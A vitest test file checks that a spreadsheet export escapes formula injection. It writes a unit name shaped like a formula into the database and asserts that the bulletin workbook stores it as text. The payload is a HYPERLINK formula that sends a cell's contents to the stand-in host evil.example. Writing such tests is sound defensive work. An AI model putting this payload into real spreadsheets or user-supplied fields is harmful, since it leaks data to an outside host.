/**
 * @module Security (issue #15, formula injection): a name beginning with `=` that reaches the bulletin workbook
 * is a text cell, never a formula, when an official opens the export (the audit export has its own test in
 * audit.test.ts).
 */
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDbKinds } from '../../platform/db/testing';
import { entryFields, type HttpScenario, openHttpScenario } from '../testing/scenario-http';

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")';

describe.each(testDbKinds())('formula-looking text in the bulletin workbook, over HTTP on %s', (kind) => {
  let s: HttpScenario;
  beforeAll(async () => {
    s = await openHttpScenario(kind);
  }, 120_000);
  afterAll(() => s?.close());

  it('given a unit named like a formula with work in the period, when the bulletin is exported, then its cell is text', async () => {
    await s.setClock('2026-03-02T09:00:00+08:00');
    await s.publishEntry('gaj', entryFields('XC-GAJ-6001'));
    // A unit's name is free text an administrator types; the lookalike of a formula stands in for any such text.
    await s.server.deps.db.execute(sql`update units set name = ${EVIL} where id = 'gaj'`);

    const res = await s.server.request('/api/supervision/bulletin.xlsx?from=2026-03-01&to=2026-03-31', {
      as: 'supervisor',
    });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.formula || cell.type === ExcelJS.ValueType.Formula)
            throw new Error(`formula in ${ws.name}!${cell.address}`);
          if (cell.value === EVIL) cells.push(cell);
        }),
      ),
    );
    expect(cells.length, 'the unit is listed in the bulletin').toBeGreaterThan(0);
    for (const cell of cells) expect(cell.type).toBe(ExcelJS.ValueType.String);
  });
});
